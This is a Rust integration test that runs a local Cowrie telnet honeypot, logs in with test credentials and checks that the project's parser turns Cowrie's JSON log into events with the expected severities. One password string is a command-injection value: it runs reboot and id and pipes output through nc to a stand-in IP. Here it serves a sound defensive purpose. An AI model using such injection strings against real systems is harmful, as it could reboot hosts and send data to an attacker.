//! The real Cowrie (PyPI) logged into over telnet; its JSON log read by our parser.
//! Cowrie refuses to run as root: it runs under `unshare --user` (uid nobody inside, the
//! files still ours). Found as `cowrie` beside `twistd` in a directory of PATH (a venv's
//! `bin`, as CI's); skipped with a message when absent, unless `VACSINE_REQUIRE_COWRIE=1`.

use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use vacsine_events::{parse, Format, Severity};

struct Killed(Child);

impl Drop for Killed {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

fn find_cowrie() -> Option<PathBuf> {
    std::env::split_paths(&std::env::var_os("PATH")?)
        .map(|d| d.join("twistd"))
        .find(|p| p.is_file() && p.with_file_name("cowrie").is_file())
}

fn wait_for(file: &Path, what: &str, secs: u64) -> String {
    let deadline = Instant::now() + Duration::from_secs(secs);
    loop {
        let text = String::from_utf8_lossy(&std::fs::read(file).unwrap_or_default()).into_owned();
        if text.contains(what) {
            return text;
        }
        assert!(
            Instant::now() < deadline,
            "no {what:?} in {} after {secs} s:\n{text}",
            file.display()
        );
        std::thread::sleep(Duration::from_millis(100));
    }
}

/// Reads until `prompt`, refusing every telnet option (DO → WONT, WILL → DONT): with the
/// server echoing (WILL ECHO accepted), Cowrie answers logins many seconds later.
fn until(s: &mut TcpStream, prompt: &str) {
    let deadline = Instant::now() + Duration::from_secs(60);
    let mut text = Vec::new();
    let mut buf = [0u8; 512];
    while !String::from_utf8_lossy(&text).contains(prompt) {
        assert!(
            Instant::now() < deadline,
            "no {prompt:?}: {:?}",
            String::from_utf8_lossy(&text)
        );
        let n = match s.read(&mut buf) {
            Ok(0) => panic!("connection closed before {prompt:?}"),
            Ok(n) => n,
            Err(_) => continue,
        };
        let mut i = 0;
        while i < n {
            if buf[i] == 255 && i + 2 < n {
                let reply = match buf[i + 1] {
                    253 => Some(252),
                    251 => Some(254),
                    _ => None,
                };
                if let Some(r) = reply {
                    s.write_all(&[255, r, buf[i + 2]]).unwrap();
                }
                i += 3;
            } else {
                text.push(buf[i]);
                i += 1;
            }
        }
    }
}

#[test]
fn real_cowrie_logins_become_indicators() {
    let Some(twistd) = find_cowrie() else {
        assert!(
            std::env::var("VACSINE_REQUIRE_COWRIE").as_deref() != Ok("1"),
            "VACSINE_REQUIRE_COWRIE=1 but no cowrie beside twistd in PATH"
        );
        eprintln!("SKIPPED: Cowrie not found (no cowrie beside twistd in PATH; `pip install cowrie` in a venv on PATH); VACSINE_REQUIRE_COWRIE=1 fails instead");
        return;
    };
    let dir = std::env::temp_dir().join(format!("vacsine-events-cowrie-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    for d in [
        "var/log/cowrie",
        "var/lib/cowrie/tty",
        "var/lib/cowrie/downloads",
    ] {
        std::fs::create_dir_all(dir.join(d)).unwrap();
    }
    let port = TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    let out = dir.join("twistd.out");
    let _daemon = Killed(
        Command::new("unshare")
            .args([
                "--user",
                twistd.to_str().unwrap(),
                "-n",
                "--pidfile=",
                "cowrie",
            ])
            .current_dir(&dir)
            .env("COWRIE_SSH_ENABLED", "false")
            .env("COWRIE_TELNET_ENABLED", "true")
            .env(
                "COWRIE_TELNET_LISTEN_ENDPOINTS",
                format!("tcp:{port}:interface=127.0.0.1"),
            )
            .env("COWRIE_HONEYPOT_HOSTNAME", "decoy-b")
            .stdout(Stdio::from(std::fs::File::create(&out).unwrap()))
            .stderr(Stdio::null())
            .spawn()
            .expect("unshare (util-linux)"),
    );
    wait_for(&out, "Ready to accept Telnet connections", 60);

    let mut s = TcpStream::connect(("127.0.0.1", port)).unwrap();
    s.set_read_timeout(Some(Duration::from_millis(500)))
        .unwrap();
    until(&mut s, "login: ");
    s.write_all(b"root\r\n").unwrap();
    until(&mut s, "Password: ");
    // Cowrie's default user database refuses this one for root...
    s.write_all(b"123456\r\n").unwrap();
    until(&mut s, "login: ");
    s.write_all(b"root\r\n").unwrap();
    until(&mut s, "Password: ");
    // ...and lets any other in.
    s.write_all(b"x$(reboot);`id`|nc 198.51.100.5 4444\r\n")
        .unwrap();
    let log = dir.join("var/log/cowrie/cowrie.json");
    let text = wait_for(&log, "cowrie.login.success", 60);
    drop(s);
    drop(_daemon);

    let p = parse(Format::Cowrie, text.as_bytes());
    assert!(p.errors.is_empty(), "{:?}", p.errors);
    let got: Vec<(&str, Severity)> = p
        .events
        .iter()
        .map(|e| (e.fields["eventid"].as_str(), e.severity))
        .collect();
    assert_eq!(
        got,
        [
            ("cowrie.session.connect", Severity::Medium),
            ("cowrie.login.failed", Severity::Medium),
            ("cowrie.login.success", Severity::High),
        ]
    );
    assert!(p.skipped >= 1, "telnet option records are not events");
    for e in &p.events {
        assert_eq!(crate::common::obs(e), ["ipv4:127.0.0.1"]);
        assert_eq!(e.fields["dst_port"], port.to_string());
        assert_eq!(e.fields["protocol"], "telnet");
        assert_eq!(e.fields["session"], p.events[0].fields["session"]);
    }
    assert_eq!(p.events[1].fields["password"], "123456");
    assert_eq!(
        p.events[2].fields["password"],
        "x$(reboot);`id`|nc 198.51.100.5 4444"
    );
    let _ = std::fs::remove_dir_all(&dir);
}
